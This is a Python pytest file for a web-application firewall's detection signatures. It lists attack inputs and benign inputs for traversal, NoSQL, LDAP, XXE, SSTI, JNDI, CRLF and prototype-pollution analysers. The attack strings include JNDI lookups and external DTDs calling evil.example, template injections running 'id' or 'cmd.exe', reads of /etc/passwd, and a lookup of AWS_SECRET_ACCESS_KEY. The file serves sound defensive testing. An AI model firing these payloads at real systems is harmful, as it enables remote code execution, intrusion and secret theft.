"""Unit: traversal, NoSQL, LDAP, XXE, SSTI, JNDI, CRLF and prototype-pollution analysers."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from bastion.detection import signatures as sig
from bastion.detection.rules import Context

BODY = Context("body", "note")
KEY = Context("body", "filter", True)
QUERY = Context("query", "q")

Case = tuple[Callable[[str, Context], tuple[int, int] | None], str, Context]
ATTACKS: dict[str, Case] = {
    "traversal_dotdot": (sig.traversal, "../../../../etc/passwd", BODY),
    "traversal_backslash": (sig.traversal, "..\\..\\..\\windows\\win.ini", BODY),
    "traversal_filter_evasion": (sig.traversal, "....//....//etc/passwd", BODY),
    "traversal_absolute_sensitive": (sig.traversal, "/etc/passwd", BODY),
    "traversal_proc_environ": (sig.traversal, "file/../../../proc/self/environ", BODY),
    "traversal_tomcat_semicolon": (sig.traversal, "..;/..;/admin", BODY),
    "traversal_php_filter": (sig.traversal, "php://filter/convert.base64-encode/resource=index.php", BODY),
    "traversal_division_slash": (sig.traversal, "..\u2215..\u2215etc\u2215passwd", BODY),
    "nosql_operator_key": (sig.nosqli, "$ne", KEY),
    "nosql_where_key": (sig.nosqli, "$where", KEY),
    "nosql_query_brackets_key": (sig.nosqli, "user[$ne]", KEY),
    "nosql_json_text": (sig.nosqli, '{"username": {"$ne": "x"}}', BODY),
    "nosql_js_injection": (sig.nosqli, "'; return true; var x='", BODY),
    "ldap_wildcard_close": (sig.ldapi, "*)(uid=*))(|(uid=*", BODY),
    "ldap_and_true": (sig.ldapi, "admin)(&)", BODY),
    "ldap_objectclass": (sig.ldapi, "*)(|(objectclass=*)", BODY),
    "ldap_double_close": (sig.ldapi, "*))", BODY),
    "xxe_external_entity": (sig.xxe, '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', BODY),
    "xxe_parameter_entity": (sig.xxe, '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://e.example/x.dtd"> %xxe;]>', BODY),
    "xxe_external_dtd": (sig.xxe, '<!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data/>', BODY),
    "xxe_xinclude": (sig.xxe, '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/x"/></r>', BODY),
    "ssti_jinja_arithmetic": (sig.ssti, "{{7*7}}", BODY),
    "ssti_dollar_arithmetic": (sig.ssti, "${7*7}", BODY),
    "ssti_jinja_dunder": (sig.ssti, "{{''.__class__.__mro__[1].__subclasses__()}}", BODY),
    "ssti_erb": (sig.ssti, "<%= 7*7 %>", BODY),
    "ssti_spring_el": (sig.ssti, "${T(java.lang.Runtime).getRuntime().exec('id')}", BODY),
    "ssti_freemarker": (sig.ssti, '<#assign ex="freemarker.template.utility.Execute"?new()>', BODY),
    "ssti_jinja_config": (sig.ssti, "{{config.items()}}", BODY),
    "ssti_smarty": (sig.ssti, "{$smarty.version}", BODY),
    "ssti_smarty_if_system": (sig.ssti, "{if system('id')}{/if}", BODY),
    "ssti_razor": (sig.ssti, "@(7*7)", BODY),
    "ssti_polyglot_probe": (sig.ssti, "${{<%[%'\"}}%\\.", BODY),
    "ssti_erb_backticks": (sig.ssti, "<%= `id` %>", BODY),
    "jndi_plain": (sig.jndi, "${jndi:ldap://evil.example/a}", BODY),
    "jndi_lower_lookup": (sig.jndi, "${${lower:j}ndi:ldap://evil.example/a}", BODY),
    "jndi_default_value_chain": (sig.jndi, "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", BODY),
    "jndi_env_default": (sig.jndi, "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}", BODY),
    "jndi_k8s_default": (sig.jndi, "${j${k8s:k5:-ND}i:ldap://evil.example/a}", BODY),
    "jndi_env_exfiltration": (sig.jndi, "${env:AWS_SECRET_ACCESS_KEY}", BODY),
    "crlf_set_cookie_in_query": (sig.crlf, "foo\r\nSet-Cookie: admin=1", QUERY),
    "crlf_location_in_body": (sig.crlf, "x\r\nLocation: http://evil.example", BODY),
    "crlf_response_splitting": (sig.crlf, "\r\n\r\n<script>alert(1)</script>", BODY),
    "crlf_unicode_line_separator": (sig.crlf, "a\u2028Set-Cookie: a=b", BODY),
    "crlf_unicode_paragraph_separator": (sig.crlf, "val\u2029X-Admin: true", QUERY),
    "crlf_low_byte_truncation": (sig.crlf, "\u560a\u560dSet-Cookie: x=1", QUERY),
    "proto_key": (sig.proto, "__proto__", KEY),
    "proto_constructor_prototype_path": (sig.proto, "constructor.prototype.isAdmin", BODY),
    "proto_bracket_key": (sig.proto, "__proto__[isAdmin]", KEY),
    "proto_constructor_brackets": (sig.proto, "constructor[prototype][admin]", KEY),
    "proto_prototype_under_constructor": (sig.proto, "prototype", Context("body", "constructor", True)),
    "traversal_undecodable_overlong_slash": (sig.traversal, "..\ufffd\ufffd..\ufffd\ufffdetc\ufffd\ufffdpasswd", QUERY),
    "traversal_set_minus_backslash": (sig.traversal, "..\u2216..\u2216windows\u2216win.ini", BODY),
    "traversal_iis_web_config": (sig.traversal, "C:/inetpub/wwwroot/web.config", BODY),
    "traversal_unc_path": (sig.traversal, "\\\\evil.example\\share\\payload.dll", BODY),
    "ldap_wildcard_empty_filter_probe": (sig.ldapi, "*()|&'", BODY),
    "ssti_twig_string_multiplication": (sig.ssti, "{{7*'7'}}", BODY),
    "ssti_razor_process_start": (sig.ssti, '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', BODY),
    "crlf_reassembled_after_strip": (sig.crlf, "%\n0aSet-Cookie:crlf=1", QUERY),
    "crlf_escaped_break": (sig.crlf, "\\r\\nX-Test: 1", BODY),
    "proto_constructor_prototype_json_text": (sig.proto, '{"constructor": {"prototype": {"polluted": 1}}}', BODY),
    "proto_bracket_chain": (sig.proto, "[constructor][prototype][role]", BODY),
    "proto_strip_once_bypass": (sig.proto, "__pro__proto__to__", KEY),
    # fresh3 (2026-11-29)
    "nosql_comment_operator_after_breakout": (sig.nosqli, "' } ], $comment:'successful MongoDB injection'", BODY),
    "nosql_js_statement_after_breakout": (sig.nosqli, "';it=new Date();do{pt=new Date();}while(pt-it<5000);", BODY),
    "nosql_js_return_call": (sig.nosqli, "\";return(true);var xyz='a", BODY),
    "ssti_freemarker_square_bracket_syntax": (
        sig.ssti, "[#assign ex = 'freemarker.template.utility.Execute'?new()]${ ex('id')}", BODY),
    "traversal_stray_percent_before_backslash": (sig.traversal, "/%\\..%\\..%\\..winnt/desktop.ini", QUERY),
}

BENIGN: dict[str, Case] = {
    "relative_link_in_markdown": (sig.traversal, "see [setup](../docs/setup.md)", BODY),
    "ellipsis_slash": (sig.traversal, "wait.../ok", BODY),
    "url_with_dot_segments": (sig.traversal, "https://example.com/a/b/../c", BODY),
    "windows_user_path": (sig.traversal, "C:\\Users\\alice\\Documents\\report.docx", BODY),
    "json_schema_keys": (sig.nosqli, "$schema", KEY),
    "dollar_price": (sig.nosqli, "I paid $5 for it", BODY),
    "parenthesised_prose": (sig.ldapi, "see above (and below)", BODY),
    "required_marker": (sig.ldapi, "Name (required*)", BODY),
    "razor_variable": (sig.ssti, "Hello @(user.Name)", BODY),
    "html_doctype": (sig.xxe, "<!DOCTYPE html><html></html>", BODY),
    "mustache_variable": (sig.ssti, "Hello {{name}}, order {{order.id}} shipped.", BODY),
    "js_template_variable": (sig.ssti, "const t = `${user.name}`;", BODY),
    "wiki_link": (sig.ssti, "see [[Main Page]]", BODY),
    "jinja_template_with_blocks": (sig.ssti, "{{ a }} {% for x in y %}{{ x }}{% endfor %}", BODY),
    "shell_variable": (sig.jndi, "echo ${HOME}", BODY),
    "multiline_markdown_in_body": (sig.crlf, "# Notes\nStep: one\nStep: two", BODY),
    "multiline_list_in_query": (sig.crlf, "line one\n- item", QUERY),
    "prototype_word": (sig.proto, "The prototype is ready", BODY),
    "env_template_file": (sig.traversal, "/files/.env.example", BODY),
    "ssh_public_key_file": (sig.traversal, "cat ~/.ssh/id_ed25519.pub", BODY),
    "quoted_mail_headers_in_query": (sig.crlf, "From: Jo <jo@example.com>\nSubject: Re: order", QUERY),
    "traceback_in_query": (sig.crlf, "Traceback:\n  main()\nKeyError: 'id'", QUERY),
    "return_in_prose_after_quote": (sig.nosqli, "Is it 'ok'; return it tomorrow", BODY),
    "mongo_driver_call_in_code": (sig.nosqli, "const user = await db.users.findOne({ email });", BODY),
    "percent_in_prose_with_dots": (sig.traversal, "Up 50% ... then down 20%", BODY),
}


@pytest.mark.parametrize(("analyser", "value", "ctx"), ATTACKS.values(), ids=ATTACKS.keys())
def test_detects_attack(analyser: Callable[[str, Context], tuple[int, int] | None], value: str, ctx: Context) -> None:
    assert analyser(value, ctx) is not None


@pytest.mark.parametrize(("analyser", "value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_passes_benign(analyser: Callable[[str, Context], tuple[int, int] | None], value: str, ctx: Context) -> None:
    assert analyser(value, ctx) is None


def test_log4j_lookups_resolve_like_log4j() -> None:
    assert sig.resolve_lookups("${${lower:J}${::-n}di:x}") == "${jndi:x}"


@pytest.mark.parametrize("filler", ["{%", "{{", "${", "<%"])
def test_template_expression_after_thousands_of_unclosed_openers_is_still_found(filler: str) -> None:
    """The opener loop remembers how far it found no closing delimiter (``{%`` × 64K cost 650 ms before, one
    1,000-character scan per opener); an expression after the filler, or closed far inside it, is still read."""
    assert sig.ssti(filler * 3000 + " {{7*7}}", BODY) is not None
    assert sig.ssti("{{" + "a" * 900 + "{%" * 400 + "__class__ }}", BODY) is not None
    assert sig.ssti(filler * 3000 + " plain words", BODY) is None
